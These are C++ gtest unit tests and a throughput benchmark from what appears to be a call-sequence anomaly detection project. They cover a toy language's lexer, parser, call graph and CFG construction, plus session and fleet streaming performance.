  auto program = ParseProgram(R"(
fn main() { even(4); }
fn even(n) {
  if (n == 0) { return 1; }
  return odd(n - 1);
}
fn odd(n) {
  if (n == 0) { return 0; }
  return even(n - 1);
}
)");
  ASSERT_TRUE(program.ok());
  auto cg = CallGraph::Build(*program);
  ASSERT_TRUE(cg.ok());
  EXPECT_TRUE(cg->HasRecursion());
  EXPECT_EQ(cg->cyclic_edges().size(), 1u);  // one edge breaks the cycle
}

TEST(CallGraphTest, DeadFunctionsStillOrdered) {
  auto program = ParseProgram(R"(
fn main() { print("x"); }
fn unused() { print("dead"); }
)");
  ASSERT_TRUE(program.ok());
  auto cg = CallGraph::Build(*program);
  ASSERT_TRUE(cg.ok());
  EXPECT_EQ(cg->reverse_topo_order().size(), 2u);
}

}  // namespace
}  // namespace adprom::prog
