#include "prog/lexer.h"

#include <gtest/gtest.h>

namespace adprom::prog {
namespace {

TEST(LexerTest, KeywordsAndIdentifiers) {
  auto tokens = Lex("fn main() { var x = 1; }");
  ASSERT_TRUE(tokens.ok());
  const auto& t = *tokens;
  EXPECT_EQ(t[0].type, TokenType::kKeyword);
  EXPECT_EQ(t[0].text, "fn");
  EXPECT_EQ(t[1].type, TokenType::kIdentifier);
  EXPECT_EQ(t[1].text, "main");
  EXPECT_EQ(t.back().type, TokenType::kEnd);
}

TEST(LexerTest, CommentsSkipped) {
  auto tokens = Lex("# a comment\nfn f() {} # trailing\n");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[0].text, "fn");
  EXPECT_EQ((*tokens)[1].line, 2);
}

TEST(LexerTest, StringEscapes) {
  auto tokens = Lex(R"(fn f() { print("a\nb\t\"c\\"); })");
  ASSERT_TRUE(tokens.ok());
  bool found = false;
  for (const auto& tok : *tokens) {
    if (tok.type == TokenType::kStrLiteral) {
      EXPECT_EQ(tok.text, "a\nb\t\"c\\");
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(LexerTest, UnterminatedStringFails) {
  EXPECT_FALSE(Lex("fn f() { print(\"oops); }").ok());
}

TEST(LexerTest, TwoCharOperators) {
  auto tokens = Lex("a <= b >= c == d != e && f || g");
  ASSERT_TRUE(tokens.ok());
  std::vector<std::string> ops;
  for (const auto& tok : *tokens) {
    if (tok.type == TokenType::kOperator) ops.push_back(tok.text);
  }
  EXPECT_EQ(ops, (std::vector<std::string>{"<=", ">=", "==", "!=", "&&",
                                           "||"}));
}

TEST(LexerTest, Numbers) {
  auto tokens = Lex("1 2.5 100");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[0].type, TokenType::kIntLiteral);
  EXPECT_EQ((*tokens)[1].type, TokenType::kRealLiteral);
  EXPECT_EQ((*tokens)[2].type, TokenType::kIntLiteral);
}

TEST(LexerTest, LineTracking) {
  auto tokens = Lex("fn\nmain\n(");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[0].line, 1);
  EXPECT_EQ((*tokens)[1].line, 2);
  EXPECT_EQ((*tokens)[2].line, 3);
}

TEST(LexerTest, SingleAmpersandFails) {
  EXPECT_FALSE(Lex("a & b").ok());
}

}  // namespace
}  // namespace adprom::prog
