#include <gtest/gtest.h>

#include "prog/program.h"

namespace adprom::prog {
namespace {

TEST(ParserTest, MinimalProgram) {
  auto program = ParseProgram("fn main() {}");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  EXPECT_TRUE(program->finalized());
  EXPECT_EQ(program->functions().size(), 1u);
  EXPECT_EQ(program->num_call_sites(), 0);
}

TEST(ParserTest, RequiresMain) {
  auto program = ParseProgram("fn helper() {}");
  EXPECT_FALSE(program.ok());
}

TEST(ParserTest, DuplicateFunctionFails) {
  EXPECT_FALSE(ParseProgram("fn main() {} fn main() {}").ok());
}

TEST(ParserTest, VarDeclAndAssign) {
  auto program = ParseProgram(R"(
fn main() {
  var x = 1 + 2 * 3;
  x = x - 1;
}
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  const auto& body = program->FindFunction("main")->body;
  ASSERT_EQ(body.size(), 2u);
  EXPECT_EQ(body[0]->kind, StmtKind::kVarDecl);
  EXPECT_EQ(body[1]->kind, StmtKind::kAssign);
  // Precedence: 1 + (2 * 3).
  const Expr& e = *body[0]->expr;
  ASSERT_EQ(e.kind, ExprKind::kBinary);
  EXPECT_EQ(e.bin_op, BinOp::kAdd);
  EXPECT_EQ(e.rhs->bin_op, BinOp::kMul);
}

TEST(ParserTest, UndeclaredVariableFails) {
  EXPECT_FALSE(ParseProgram("fn main() { x = 1; }").ok());
  EXPECT_FALSE(ParseProgram("fn main() { var y = x; }").ok());
}

TEST(ParserTest, ScopingAllowsParams) {
  auto program = ParseProgram(R"(
fn main() { helper(1); }
fn helper(a) { var b = a + 1; print(b); }
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
}

TEST(ParserTest, BlockScopeDoesNotLeak) {
  // `y` declared in the then-branch is not visible after the if.
  auto program = ParseProgram(R"(
fn main() {
  var x = 1;
  if (x > 0) { var y = 2; print(y); }
  print(y);
}
)");
  EXPECT_FALSE(program.ok());
}

TEST(ParserTest, IfElseChain) {
  auto program = ParseProgram(R"(
fn main() {
  var x = 2;
  if (x == 1) { print("one"); }
  else if (x == 2) { print("two"); }
  else { print("many"); }
}
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  const auto& body = program->FindFunction("main")->body;
  const Stmt& outer_if = *body[1];
  ASSERT_EQ(outer_if.kind, StmtKind::kIf);
  ASSERT_EQ(outer_if.else_body.size(), 1u);
  EXPECT_EQ(outer_if.else_body[0]->kind, StmtKind::kIf);
}

TEST(ParserTest, WhileAndReturn) {
  auto program = ParseProgram(R"(
fn main() { var t = count(3); print(t); }
fn count(n) {
  var i = 0;
  while (i < n) { i = i + 1; }
  return i;
}
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
}

TEST(ParserTest, CallSiteIdsAreUniqueAndDense) {
  auto program = ParseProgram(R"(
fn main() {
  print(scan());
  helper();
}
fn helper() { print("x"); }
)");
  ASSERT_TRUE(program.ok());
  // 4 call sites: scan, print, helper, print.
  EXPECT_EQ(program->num_call_sites(), 4);
}

TEST(ParserTest, ArityCheckOnUserCalls) {
  EXPECT_FALSE(ParseProgram(R"(
fn main() { helper(1, 2); }
fn helper(a) { print(a); }
)")
                   .ok());
}

TEST(ParserTest, CloneIsDeepAndIndependent) {
  auto program = ParseProgram(R"(
fn main() { print("original"); }
)");
  ASSERT_TRUE(program.ok());
  Program copy = program->Clone();
  // Mutating the copy must not affect the original.
  FunctionDef* fn = copy.FindMutableFunction("main");
  fn->body[0]->expr->args[0]->str_value = "mutated";
  EXPECT_EQ(program->FindFunction("main")
                ->body[0]
                ->expr->args[0]
                ->str_value,
            "original");
}

TEST(ParserTest, SyntaxErrors) {
  EXPECT_FALSE(ParseProgram("fn main( {}").ok());
  EXPECT_FALSE(ParseProgram("fn main() { var = 1; }").ok());
  EXPECT_FALSE(ParseProgram("fn main() { if x { } }").ok());
  EXPECT_FALSE(ParseProgram("fn main() { print(1) }").ok());
  EXPECT_FALSE(ParseProgram("fn main() { while (1) print(); }").ok());
}

TEST(ParserTest, UnaryOperators) {
  auto program = ParseProgram(R"(
fn main() {
  var x = -3;
  var y = !x;
  print(x + y);
}
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  const Expr& neg = *program->FindFunction("main")->body[0]->expr;
  EXPECT_EQ(neg.kind, ExprKind::kUnary);
  EXPECT_EQ(neg.un_op, UnOp::kNeg);
}

TEST(ParserTest, DuplicateFunctionErrorCarriesLine) {
  auto program = ParseProgram(R"(
fn helper() {
  print("a");
}
fn main() {
  helper();
}
fn helper() {
  print("b");
}
)");
  ASSERT_FALSE(program.ok());
  EXPECT_NE(program.status().ToString().find("line 8"), std::string::npos)
      << program.status().ToString();
  EXPECT_NE(program.status().ToString().find("helper"), std::string::npos);
}

TEST(ParserTest, FunctionDefsRecordTheirLine) {
  auto program = ParseProgram(R"(
fn main() {
  print("x");
}

fn other() {
  print("y");
}
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  EXPECT_EQ(program->FindFunction("main")->line, 2);
  EXPECT_EQ(program->FindFunction("other")->line, 6);
}

}  // namespace
}  // namespace adprom::prog
