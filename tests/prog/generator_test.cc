// Property-based fuzzing over randomly generated MiniApp programs: the
// printer/parser round-trip, the CFG construction, the full static
// analysis invariants, and crash-free interpretation.

#include "prog/generator.h"

#include <gtest/gtest.h>

#include "core/analyzer.h"
#include "prog/cfg.h"
#include "prog/printer.h"
#include "runtime/collector.h"
#include "runtime/interpreter.h"

namespace adprom::prog {
namespace {

class GeneratedProgramTest : public ::testing::TestWithParam<uint64_t> {
 protected:
  Program Generate(GeneratorOptions options = GeneratorOptions()) {
    util::Rng rng(GetParam());
    auto program = GenerateRandomProgram(options, rng);
    EXPECT_TRUE(program.ok()) << program.status().ToString();
    return std::move(program).value();
  }
};

TEST_P(GeneratedProgramTest, PrinterParserRoundTrip) {
  const Program program = Generate();
  const std::string source = ProgramToSource(program);
  auto reparsed = ParseProgram(source);
  ASSERT_TRUE(reparsed.ok()) << reparsed.status().ToString() << "\n"
                             << source;
  EXPECT_EQ(reparsed->functions().size(), program.functions().size());
  EXPECT_EQ(reparsed->num_call_sites(), program.num_call_sites());
  // Idempotence: printing the reparsed program gives the same text.
  EXPECT_EQ(ProgramToSource(*reparsed), source);
}

TEST_P(GeneratedProgramTest, CfgBuildsForEveryFunction) {
  const Program program = Generate();
  auto cfgs = BuildAllCfgs(program);
  ASSERT_TRUE(cfgs.ok());
  for (const auto& [name, cfg] : *cfgs) {
    EXPECT_EQ(cfg.ForecastTopoOrder().size(), cfg.size()) << name;
  }
}

TEST_P(GeneratedProgramTest, AnalysisInvariantsHold) {
  const Program program = Generate();
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(program);
  ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
  for (const auto& [name, ctm] : analysis->function_ctms) {
    EXPECT_TRUE(ctm.CheckInvariants().ok())
        << name << ": " << ctm.CheckInvariants().ToString();
  }
  EXPECT_TRUE(analysis->program_ctm.CheckInvariants().ok())
      << analysis->program_ctm.CheckInvariants().ToString() << "\n"
      << ProgramToSource(program);
}

TEST_P(GeneratedProgramTest, InterpreterRunsClean) {
  const Program program = Generate();
  auto cfgs = BuildAllCfgs(program);
  ASSERT_TRUE(cfgs.ok());
  runtime::Interpreter interpreter(program, *cfgs, nullptr);
  runtime::LightCollector collector;
  interpreter.set_collector(&collector);
  auto result = interpreter.Run({"one", "two", "3"});
  EXPECT_TRUE(result.ok()) << result.status().ToString() << "\n"
                           << ProgramToSource(program);
}

TEST_P(GeneratedProgramTest, MutatedGeneratedProgramReFinalizes) {
  // The attack mutators must work on arbitrary valid programs too.
  const Program program = Generate();
  Program clone = program.Clone();
  ASSERT_TRUE(clone.Finalize().ok());
  EXPECT_EQ(clone.num_call_sites(), program.num_call_sites());
}

INSTANTIATE_TEST_SUITE_P(Seeds, GeneratedProgramTest,
                         ::testing::Range<uint64_t>(1, 26));

TEST(GeneratorTest, DeterministicGivenSeed) {
  GeneratorOptions options;
  util::Rng a(42);
  util::Rng b(42);
  auto p1 = GenerateRandomProgram(options, a);
  auto p2 = GenerateRandomProgram(options, b);
  ASSERT_TRUE(p1.ok());
  ASSERT_TRUE(p2.ok());
  EXPECT_EQ(ProgramToSource(*p1), ProgramToSource(*p2));
}

TEST(GeneratorTest, RespectsFunctionCount) {
  GeneratorOptions options;
  options.num_functions = 7;
  util::Rng rng(9);
  auto program = GenerateRandomProgram(options, rng);
  ASSERT_TRUE(program.ok());
  EXPECT_EQ(program->functions().size(), 8u);  // + main
}

TEST(PrinterTest, EscapesSpecialCharacters) {
  auto program = ParseProgram(
      "fn main() { print(\"a\\nb\\t\\\"c\\\\\"); }");
  ASSERT_TRUE(program.ok());
  const std::string source = ProgramToSource(*program);
  auto reparsed = ParseProgram(source);
  ASSERT_TRUE(reparsed.ok()) << source;
  EXPECT_EQ(reparsed->FindFunction("main")
                ->body[0]
                ->expr->args[0]
                ->str_value,
            "a\nb\t\"c\\");
}

}  // namespace
}  // namespace adprom::prog
