#include "prog/cfg.h"

#include <gtest/gtest.h>

#include "prog/program.h"

namespace adprom::prog {
namespace {

util::Result<Cfg> CfgOf(const std::string& source,
                        const std::string& fn = "main") {
  auto program = ParseProgram(source);
  if (!program.ok()) return program.status();
  const FunctionDef* def = program->FindFunction(fn);
  if (def == nullptr) return util::Status::NotFound(fn);
  return BuildCfg(*program, *def);
}

std::vector<std::string> CallSequence(const Cfg& cfg) {
  std::vector<std::string> out;
  for (int id : cfg.CallNodes()) {
    out.push_back(cfg.node(id).call->callee);
  }
  return out;
}

TEST(CfgTest, StraightLine) {
  auto cfg = CfgOf(R"(
fn main() {
  print("a");
  print("b");
}
)");
  ASSERT_TRUE(cfg.ok()) << cfg.status().ToString();
  EXPECT_EQ(CallSequence(*cfg), (std::vector<std::string>{"print", "print"}));
  EXPECT_TRUE(cfg->back_edges().empty());
  // Entry and exit nodes make no call.
  EXPECT_FALSE(cfg->node(cfg->entry_id()).call.has_value());
  EXPECT_FALSE(cfg->node(cfg->exit_id()).call.has_value());
}

TEST(CfgTest, CallsInEvaluationOrder) {
  // Arguments evaluate before the call: db_getvalue before print.
  auto cfg = CfgOf(R"(
fn main() {
  var r = db_query("SELECT * FROM t");
  print(db_getvalue(r, 0, 0));
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(CallSequence(*cfg),
            (std::vector<std::string>{"db_query", "db_getvalue", "print"}));
}

TEST(CfgTest, BranchCreatesDiamond) {
  auto cfg = CfgOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("t"); } else { print("f"); }
  print("after");
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(CallSequence(*cfg).size(), 3u);
  // The condition node has two successors.
  int branches = 0;
  for (const CfgNode& node : cfg->nodes()) {
    if (node.succs.size() == 2) ++branches;
  }
  EXPECT_EQ(branches, 1);
}

TEST(CfgTest, WhileCreatesBackEdge) {
  auto cfg = CfgOf(R"(
fn main() {
  var i = 0;
  while (i < 3) {
    print(i);
    i = i + 1;
  }
  print("done");
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(cfg->back_edges().size(), 1u);
  // The forecast view replaces the back edge; its topological order covers
  // every node exactly once.
  const auto order = cfg->ForecastTopoOrder();
  EXPECT_EQ(order.size(), cfg->size());
}

TEST(CfgTest, ForecastSuccessorsRedirectBackEdge) {
  auto cfg = CfgOf(R"(
fn main() {
  var i = 0;
  while (i < 3) { i = i + 1; }
  print("after");
}
)");
  ASSERT_TRUE(cfg.ok());
  ASSERT_EQ(cfg->back_edges().size(), 1u);
  const auto [from, to] = *cfg->back_edges().begin();
  const std::vector<int> redirected = cfg->ForecastSuccessors(from);
  // The redirected edge must not point at the loop header.
  for (int succ : redirected) EXPECT_NE(succ, to);
}

TEST(CfgTest, ReturnConnectsToExitAndDropsDeadCode) {
  auto cfg = CfgOf(R"(
fn main() {
  print("live");
  return;
  print("dead");
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(CallSequence(*cfg), (std::vector<std::string>{"print"}));
}

TEST(CfgTest, BothBranchesReturning) {
  auto cfg = CfgOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("a"); return; } else { print("b"); return; }
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(CallSequence(*cfg).size(), 2u);
  // Exit is reachable from both branches.
  EXPECT_GE(cfg->node(cfg->exit_id()).preds.size(), 2u);
}

TEST(CfgTest, NodeOfCallSiteMapsEverySite) {
  auto program = ParseProgram(R"(
fn main() {
  var x = scan();
  if (x == "go") { print(x); }
  helper();
}
fn helper() { print("h"); }
)");
  ASSERT_TRUE(program.ok());
  auto cfgs = BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  // Every call site id maps to a node in exactly one function's CFG.
  int mapped = 0;
  for (int site = 0; site < program->num_call_sites(); ++site) {
    for (const auto& [name, cfg] : *cfgs) {
      if (cfg.NodeOfCallSite(site).has_value()) ++mapped;
    }
  }
  EXPECT_EQ(mapped, program->num_call_sites());
}

TEST(CfgTest, UserCallMarked) {
  auto cfg = CfgOf(R"(
fn main() { helper(); }
fn helper() { print("x"); }
)");
  ASSERT_TRUE(cfg.ok());
  const auto calls = cfg->CallNodes();
  ASSERT_EQ(calls.size(), 1u);
  EXPECT_TRUE(cfg->node(calls[0]).call->is_user_fn);
}

TEST(CfgTest, NestedLoops) {
  auto cfg = CfgOf(R"(
fn main() {
  var i = 0;
  while (i < 3) {
    var j = 0;
    while (j < 3) {
      print(j);
      j = j + 1;
    }
    i = i + 1;
  }
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(cfg->back_edges().size(), 2u);
  EXPECT_EQ(cfg->ForecastTopoOrder().size(), cfg->size());
}

TEST(CfgTest, CallsInLoopCondition) {
  auto cfg = CfgOf(R"(
fn main() {
  while (has_input()) {
    print(scan());
  }
}
)");
  ASSERT_TRUE(cfg.ok());
  EXPECT_EQ(CallSequence(*cfg),
            (std::vector<std::string>{"has_input", "scan", "print"}));
}

TEST(CfgTest, ToDotRendersAllNodes) {
  auto cfg = CfgOf("fn main() { print(\"x\"); }");
  ASSERT_TRUE(cfg.ok());
  const std::string dot = cfg->ToDot();
  EXPECT_NE(dot.find("digraph"), std::string::npos);
  EXPECT_NE(dot.find("print"), std::string::npos);
  EXPECT_NE(dot.find("entry"), std::string::npos);
  EXPECT_NE(dot.find("exit"), std::string::npos);
}

}  // namespace
}  // namespace adprom::prog
