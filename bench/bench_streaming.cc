// Streaming-service bench: events/sec and per-event submit latency
// (p50/p99) of the SessionManager as the number of concurrent monitored
// sessions grows (1 / 8 / 64 / 512), over a pool of hardware-concurrency
// workers, plus the bare single-session StreamingMonitor as the inline
// scoring baseline. Submit latency is producer-observed: it includes any
// kBlock back-pressure stall, which is exactly what a collector embedded
// in an application would feel.
//
// Each configuration is run `timing_repeats` times and the fastest run is
// reported (min-of-N); `--smoke` shrinks the event count and session
// sweep so the binary finishes in seconds for CI.
//
// A second sweep measures the multi-tenant fleet node on a churn-heavy
// workload: tens of thousands of short sessions (one window each) spread
// over several tenants. The `single_manager_baseline` row replays the
// same workload through the legacy SessionManager, which compiles a
// DetectionEngine per session; the fleet rows share one compiled engine
// per tenant profile, which is where the throughput multiple comes from.
//
// Machine-readable results are written to BENCH_streaming.json at the
// repository root (override with --json <path>).

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <span>
#include <sstream>
#include <string>
#include <vector>

#include "bench/bench_common.h"
#include "service/alert_sink.h"
#include "service/fleet_node.h"
#include "service/profile_registry.h"
#include "service/session_manager.h"
#include "service/streaming_monitor.h"
#include "util/strings.h"
#include "util/table_printer.h"
#include "util/thread_pool.h"

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

namespace adprom::bench {
namespace {

std::string Num(double v) { return util::StrFormat("%.6g", v); }

double Seconds(const std::chrono::steady_clock::time_point& start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

struct Preset {
  bool smoke = false;
  size_t total_events = 60000;
  size_t timing_repeats = 3;
  std::vector<size_t> session_sweep = {1, 8, 64, 512};
  // Fleet sweep: short sessions (one window each) at fleet scale. The
  // baseline row replays fleet_sessions[0] sessions through the legacy
  // per-session-engine manager.
  size_t fleet_tenants = 4;
  // Churn runs are short (~0.1 s at 10k sessions), so they take more
  // min-of-N repeats than the long stream runs to damp scheduler noise.
  size_t fleet_timing_repeats = 5;
  std::vector<size_t> fleet_sessions = {10000, 100000};
  std::vector<size_t> fleet_shards = {1, 8};
};

Preset SmokePreset() {
  Preset p;
  p.smoke = true;
  p.total_events = 4000;
  p.timing_repeats = 1;
  p.session_sweep = {1, 8};
  p.fleet_timing_repeats = 1;
  p.fleet_sessions = {500};
  return p;
}

/// Counts verdicts without storing them: the sink must not become the
/// bottleneck being measured.
class CountingSink : public service::AlertSink {
 public:
  void OnDetection(const std::string& session_id,
                   const core::Detection& detection) override {
    (void)session_id;
    verdicts.fetch_add(1, std::memory_order_relaxed);
    if (detection.IsAlarm()) alarms.fetch_add(1, std::memory_order_relaxed);
  }
  std::atomic<size_t> verdicts{0};
  std::atomic<size_t> alarms{0};
};

struct StreamRun {
  std::string name;
  size_t sessions = 1;
  size_t events = 0;
  size_t verdicts = 0;
  double seconds = 0.0;
  double events_per_sec = 0.0;
  double p50_us = 0.0;
  double p99_us = 0.0;
};

double Percentile(std::vector<double>* sorted_us, double p) {
  if (sorted_us->empty()) return 0.0;
  const size_t index = std::min(
      sorted_us->size() - 1,
      static_cast<size_t>(p * static_cast<double>(sorted_us->size())));
  return (*sorted_us)[index];
}

/// One configuration: `sessions` concurrent sessions fed round-robin from
/// the flattened corpus event pool, ~`total_events` events overall.
StreamRun RunConfigOnce(const core::ApplicationProfile& profile,
                        const std::vector<runtime::CallEvent>& pool_events,
                        size_t sessions, size_t total_events,
                        util::ThreadPool* pool) {
  CountingSink sink;
  service::SessionManagerOptions options;
  options.queue_capacity = 1024;
  options.overflow = service::SessionManagerOptions::OverflowPolicy::kBlock;
  service::SessionManager manager(&profile, &sink, pool, options);

  std::vector<std::string> ids;
  ids.reserve(sessions);
  for (size_t s = 0; s < sessions; ++s) {
    ids.push_back("s" + std::to_string(s));
  }
  const size_t per_session =
      std::max(profile.options.window_length, total_events / sessions);
  const size_t events = per_session * sessions;
  std::vector<double> latencies_us;
  latencies_us.reserve(events);

  const auto bench_start = std::chrono::steady_clock::now();
  for (size_t i = 0; i < per_session; ++i) {
    for (size_t s = 0; s < sessions; ++s) {
      // Session s streams the corpus from its own offset, so concurrent
      // sessions are not in lockstep on identical windows.
      const runtime::CallEvent& event =
          pool_events[(s * 7919 + i) % pool_events.size()];
      const auto t0 = std::chrono::steady_clock::now();
      (void)manager.Submit(ids[s], event);
      latencies_us.push_back(
          std::chrono::duration<double, std::micro>(
              std::chrono::steady_clock::now() - t0)
              .count());
    }
  }
  manager.Drain();
  const double seconds = Seconds(bench_start);
  manager.CloseAll();

  StreamRun run;
  run.name = pool == nullptr ? "inline" : "pooled";
  run.sessions = sessions;
  run.events = events;
  run.verdicts = sink.verdicts.load();
  run.seconds = seconds;
  run.events_per_sec = static_cast<double>(events) / seconds;
  std::sort(latencies_us.begin(), latencies_us.end());
  run.p50_us = Percentile(&latencies_us, 0.50);
  run.p99_us = Percentile(&latencies_us, 0.99);
  return run;
}

struct FleetRun {
  std::string name;
  size_t shards = 1;
  size_t tenants = 1;
  size_t sessions = 0;
  size_t events = 0;
  size_t verdicts = 0;
  size_t drops = 0;
  size_t backlog_max = 0;
  double seconds = 0.0;
  double events_per_sec = 0.0;
  double p50_us = 0.0;
  double p99_us = 0.0;
};

/// Churn workload: `sessions` short-lived sessions (window_length events
/// each, i.e. exactly one verdict window) fed and closed one after the
/// other, spread round-robin over `tenants` tenants. `shards == 0` means
/// the legacy single SessionManager, which compiles a DetectionEngine per
/// session and only offers per-event Submit — the pre-fleet baseline.
/// The fleet rows ingest each session as one SubmitBatch burst, the way
/// the binary feed hands bursts to the node: one profile resolve, one
/// session-lock hold, and one worker hand-off per session instead of one
/// per event. Fleet latency samples are therefore per-burst, not
/// per-event.
FleetRun RunFleetConfigOnce(const core::ApplicationProfile& profile,
                            const std::vector<runtime::CallEvent>& pool_events,
                            size_t shards, size_t tenants, size_t sessions,
                            util::ThreadPool* pool) {
  const size_t per_session = profile.options.window_length;
  CountingSink sink;
  service::SessionManagerOptions session_options;
  session_options.queue_capacity = 1024;
  session_options.overflow =
      service::SessionManagerOptions::OverflowPolicy::kBlock;

  std::vector<double> latencies_us;
  latencies_us.reserve(sessions * per_session);
  FleetRun run;
  run.tenants = shards == 0 ? 1 : tenants;
  run.sessions = sessions;
  run.events = sessions * per_session;

  if (shards == 0) {
    run.name = "single_manager_baseline";
    run.shards = 1;
    service::SessionManager manager(&profile, &sink, pool, session_options);
    const auto bench_start = std::chrono::steady_clock::now();
    for (size_t s = 0; s < sessions; ++s) {
      const std::string key = "s" + std::to_string(s);
      for (size_t i = 0; i < per_session; ++i) {
        const runtime::CallEvent& event =
            pool_events[(s * 7919 + i) % pool_events.size()];
        const auto t0 = std::chrono::steady_clock::now();
        (void)manager.Submit(key, event);
        latencies_us.push_back(
            std::chrono::duration<double, std::micro>(
                std::chrono::steady_clock::now() - t0)
                .count());
      }
      (void)manager.CloseSession(key);
    }
    manager.Drain();
    run.seconds = Seconds(bench_start);
    run.drops = manager.total_dropped();
    run.backlog_max = manager.Metrics().max_queue_depth;
    manager.CloseAll();
  } else {
    run.name = "fleet";
    run.shards = shards;
    service::ProfileRegistry registry;
    std::vector<std::string> tenant_names;
    for (size_t t = 0; t < tenants; ++t) {
      tenant_names.push_back("tenant" + std::to_string(t));
      core::ApplicationProfile copy = profile;
      if (!registry.Install(tenant_names.back(), std::move(copy)).ok()) {
        std::printf("FATAL: registry install failed\n");
        std::abort();
      }
    }
    service::FleetOptions fleet_options;
    fleet_options.num_shards = shards;
    fleet_options.session = session_options;
    service::FleetNode fleet(&registry, &sink, pool, fleet_options);
    // Each session's burst is a contiguous slice of the pool at its own
    // offset, so concurrent sessions are not in lockstep on identical
    // windows and no events are copied on the producer side.
    const size_t max_offset = pool_events.size() - per_session;
    const auto bench_start = std::chrono::steady_clock::now();
    for (size_t s = 0; s < sessions; ++s) {
      const std::string key = "s" + std::to_string(s);
      const std::span<const runtime::CallEvent> burst(
          pool_events.data() + (s * 7919) % max_offset, per_session);
      const auto t0 = std::chrono::steady_clock::now();
      (void)fleet.SubmitBatch(tenant_names[s % tenants], key, burst);
      latencies_us.push_back(
          std::chrono::duration<double, std::micro>(
              std::chrono::steady_clock::now() - t0)
              .count());
      (void)fleet.CloseSession(tenant_names[s % tenants], key);
    }
    fleet.Drain();
    run.seconds = Seconds(bench_start);
    run.drops = fleet.total_dropped();
    const service::FleetMetrics metrics = fleet.Metrics();
    for (const service::ShardMetrics& shard : metrics.shards) {
      run.backlog_max = std::max(run.backlog_max,
                                 static_cast<size_t>(shard.max_queue_depth));
    }
    fleet.CloseAll();
  }

  run.verdicts = sink.verdicts.load();
  run.events_per_sec = static_cast<double>(run.events) / run.seconds;
  std::sort(latencies_us.begin(), latencies_us.end());
  run.p50_us = Percentile(&latencies_us, 0.50);
  run.p99_us = Percentile(&latencies_us, 0.99);
  return run;
}

FleetRun RunFleetConfig(const core::ApplicationProfile& profile,
                        const std::vector<runtime::CallEvent>& pool_events,
                        size_t shards, size_t tenants, size_t sessions,
                        const Preset& preset, util::ThreadPool* pool) {
  FleetRun best;
  // Large sweeps keep the per-repeat cost in check: min-of-N only for the
  // smallest point, single shot above it.
  const size_t repeats = sessions > preset.fleet_sessions.front()
                             ? 1
                             : preset.fleet_timing_repeats;
  for (size_t r = 0; r < repeats; ++r) {
    FleetRun run = RunFleetConfigOnce(profile, pool_events, shards, tenants,
                                      sessions, pool);
    if (r == 0 || run.seconds < best.seconds) best = std::move(run);
  }
  return best;
}

/// Min-of-N: repeats the configuration and keeps the fastest run (its
/// latency percentiles come from that same run).
StreamRun RunConfig(const core::ApplicationProfile& profile,
                    const std::vector<runtime::CallEvent>& pool_events,
                    size_t sessions, const Preset& preset,
                    util::ThreadPool* pool) {
  StreamRun best;
  for (size_t r = 0; r < preset.timing_repeats; ++r) {
    StreamRun run = RunConfigOnce(profile, pool_events, sessions,
                                  preset.total_events, pool);
    if (r == 0 || run.seconds < best.seconds) best = std::move(run);
  }
  return best;
}

void WriteJson(const std::vector<StreamRun>& runs,
               const std::vector<FleetRun>& fleet_runs, size_t pool_workers,
               const Preset& preset, const std::string& json_path) {
  std::ostringstream json;
  json << "{\n";
  json << "  \"bench\": \"bench_streaming\",\n";
  json << "  " << JsonProvenance(preset.timing_repeats) << ",\n";
  json << "  \"hardware_concurrency\": "
       << util::ThreadPool::DefaultConcurrency() << ",\n";
  json << "  \"pool_workers\": " << pool_workers << ",\n";
  json << "  \"corpus\": \"grep-like\",\n";
  json << "  \"overflow_policy\": \"block\",\n";
  json << "  \"runs\": [";
  for (size_t i = 0; i < runs.size(); ++i) {
    const StreamRun& run = runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"sessions\": " << run.sessions
         << ", \"events\": " << run.events
         << ", \"verdicts\": " << run.verdicts
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"events_per_sec\": " << Num(run.events_per_sec)
         << ", \"submit_p50_us\": " << Num(run.p50_us)
         << ", \"submit_p99_us\": " << Num(run.p99_us) << "}";
  }
  json << "],\n";
  json << "  \"fleet_runs\": [";
  for (size_t i = 0; i < fleet_runs.size(); ++i) {
    const FleetRun& run = fleet_runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"shards\": " << run.shards
         << ", \"tenants\": " << run.tenants
         << ", \"sessions\": " << run.sessions
         << ", \"events\": " << run.events
         << ", \"verdicts\": " << run.verdicts
         << ", \"drops\": " << run.drops
         << ", \"backlog_max\": " << run.backlog_max
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"events_per_sec\": " << Num(run.events_per_sec)
         << ", \"submit_p50_us\": " << Num(run.p50_us)
         << ", \"submit_p99_us\": " << Num(run.p99_us) << "}";
  }
  json << "]\n";
  json << "}\n";

  std::ofstream out(json_path, std::ios::binary);
  if (out) {
    out << json.str();
    std::printf("\nwrote %s\n", json_path.c_str());
  } else {
    std::printf("\nWARNING: cannot write %s\n", json_path.c_str());
  }
}

